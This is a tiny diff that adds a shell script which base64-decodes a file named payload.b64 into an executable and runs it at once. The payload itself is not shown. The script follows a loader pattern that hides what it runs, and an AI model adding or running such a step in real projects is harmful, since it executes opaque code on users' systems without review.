@@ -1,0 +1,2 @@
+#!/bin/sh
+base64 --decode payload.b64 > ./tool && chmod +x ./tool && ./tool
